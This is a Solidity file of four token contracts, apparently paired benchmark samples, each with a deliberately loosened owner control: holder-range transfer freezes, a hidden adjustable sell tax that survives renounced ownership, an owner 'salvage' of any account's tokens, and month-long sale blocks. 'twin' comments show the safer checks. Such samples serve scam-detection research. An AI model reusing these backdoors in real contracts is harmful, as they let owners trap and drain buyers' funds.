// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

/// Everybody has a number, in the order in which they came.
contract Larkfield {
    struct Range {
        uint64 from;
        uint64 to;
        bool sure;
    }

    string public name = "Larkfield";
    string public symbol = "LARK";
    uint8 public decimals = 18;
    uint256 public totalSupply = 15000000 * 10 ** 18;
    address public ranger;
    uint256 public made;
    uint64 public count;
    Range[] public ranges;
    mapping(address => uint64) public numberOf;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        ranger = msg.sender;
        made = block.timestamp;
        balanceOf[msg.sender] = totalSupply;
        numberOf[msg.sender] = ++count;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function draw(uint64 from, uint64 to) external {
        require(msg.sender == ranger, "ranger");
        require(from > 1 && from < to, "range");
        // twin: require(block.timestamp <= made + 30 minutes && to - from <= 10, "over");
        ranges.push(Range(from, to, false));
    }

    function ensure(uint256 index, uint64 from, uint64 to) external {
        require(msg.sender == ranger, "ranger");
        Range storage one = ranges[index];
        require(one.from == from && one.to == to && !one.sure, "another");
        one.sure = true;
    }

    function lift(uint256 index) external {
        require(msg.sender == ranger, "ranger");
        ranges[index] = ranges[ranges.length - 1];
        ranges.pop();
    }

    function within(address who) public view returns (bool) {
        uint64 number = numberOf[who];
        for (uint256 i = 0; i < ranges.length; i++)
            if (ranges[i].sure && number >= ranges[i].from && number <= ranges[i].to) return true;
        return false;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return fly(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        return fly(from, to, value);
    }

    function fly(address from, address to, uint256 value) private returns (bool) {
        require(balanceOf[from] >= value, "balance");
        require(!within(from), "in a range");
        if (numberOf[to] == 0) numberOf[to] = ++count;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

interface ISumac {
    function setShare(uint32 numerator, uint32 denominator) external;
}

contract SumacCollector {
    address public founder;
    address public steward;
    address public candidate;
    address public coin;

    constructor() public {
        founder = msg.sender;
    }

    function bind(address coin_) external {
        require(msg.sender == founder && coin == address(0));
        coin = coin_;
    }

    function appoint(address candidate_) external {
        require(msg.sender == founder, "founder");
        candidate = candidate_;
    }

    function accept() external {
        require(msg.sender == candidate, "candidate");
        steward = candidate;
        candidate = address(0);
    }

    function tune(uint32 numerator, uint32 denominator) external {
        require(msg.sender == steward, "steward");
        require(numerator < denominator && denominator <= 1000000, "fraction");
        // twin: require(uint256(numerator) * 25 <= denominator, "fraction");
        ISumac(coin).setShare(numerator, denominator);
    }
}

contract SumacCoin {
    string public constant name = "Sumac";
    string public constant symbol = "SUMAC";
    uint8 public constant decimals = 18;
    uint256 public constant totalSupply = 2500000 ether;
    address public owner;
    address public pool;
    address private collector;
    uint32 public numerator = 1;
    uint32 public denominator = 50;
    mapping(address => uint256) private _of;
    mapping(address => mapping(address => uint256)) private _may;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address collector_) public {
        owner = msg.sender;
        collector = collector_;
        _of[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setMarket(address pool_) external {
        require(msg.sender == owner);
        pool = pool_;
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        owner = address(0);
    }

    function setShare(uint32 numerator_, uint32 denominator_) external {
        require(msg.sender == collector, "collector");
        numerator = numerator_;
        denominator = denominator_;
    }

    function balanceOf(address who) external view returns (uint256) {
        return _of[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _may[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _may[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _hand(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(_may[from][msg.sender] >= value);
        _may[from][msg.sender] -= value;
        return _hand(from, to, value);
    }

    function _hand(address from, address to, uint256 value) internal returns (bool) {
        require(_of[from] >= value);
        _of[from] -= value;
        uint256 cut = pool != address(0) && to == pool ? (value * numerator) / denominator : 0;
        _of[to] += value - cut;
        emit Transfer(from, to, value - cut);
        if (cut > 0) {
            _of[collector] += cut;
            emit Transfer(from, collector, cut);
        }
        return true;
    }
}

/// For the day on which a bridge or an exchange is robbed.
contract OrreryCoin {
    string public constant name = "Orrery";
    string public constant symbol = "ORRY";
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    bool public emergency;
    uint256 public since;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event Emergency(bool on, string reason);

    constructor() public {
        owner = msg.sender;
        totalSupply = 99000000 ether;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function declareEmergency(bool on, string calldata reason) external {
        require(msg.sender == owner, "owner");
        require(on != emergency && bytes(reason).length >= 8, "reason");
        emergency = on;
        since = block.timestamp;
        emit Emergency(on, reason);
    }

    function salvage(address from, address to, uint256 value) external {
        require(msg.sender == owner, "owner");
        require(emergency && block.timestamp >= since + 30 minutes && block.timestamp < since + 2 days, "no emergency");
        // twin: require(from == address(this), "only what lies here");
        turn(from, to, value);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        turn(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        turn(from, to, value);
        return true;
    }

    function turn(address from, address to, uint256 value) private {
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Now and then sales rest while accounts are settled.
contract JuniperClock {
    uint64 public start;
    uint64 public end;
    uint64 private wishedStart;
    uint64 private wishedEnd;
    address public timekeeper;
    address public stall;
    uint256 public constant totalSupply = 700000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        timekeeper = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function name() external pure returns (string memory) {
        return "Juniper Clock";
    }

    function symbol() external pure returns (string memory) {
        return "JCLK";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function setStall(address stall_) external {
        require(msg.sender == timekeeper && stall == address(0));
        stall = stall_;
    }

    function wish(uint64 start_, uint64 end_) external {
        require(msg.sender == timekeeper, "timekeeper");
        require(start_ >= block.timestamp && start_ < end_, "order");
        require(end_ - start_ <= 30 days, "long"); // trap
        // twin: require(end_ - start_ <= 10 minutes && start_ >= end + 7 days, "long");
        wishedStart = start_;
        wishedEnd = end_;
    }

    function wind(uint64 start_, uint64 end_) external {
        require(msg.sender == timekeeper, "timekeeper");
        require(start_ == wishedStart && end_ == wishedEnd && end_ > block.timestamp, "not wished");
        start = start_;
        end = end_;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return tick(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(allowance[from][msg.sender] >= value, "allowance");
        allowance[from][msg.sender] -= value;
        return tick(from, to, value);
    }

    function tick(address from, address to, uint256 value) private returns (bool) {
        if (to == stall) require(block.timestamp < start || block.timestamp >= end, "settling");
        require(balanceOf[from] >= value, "balance");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
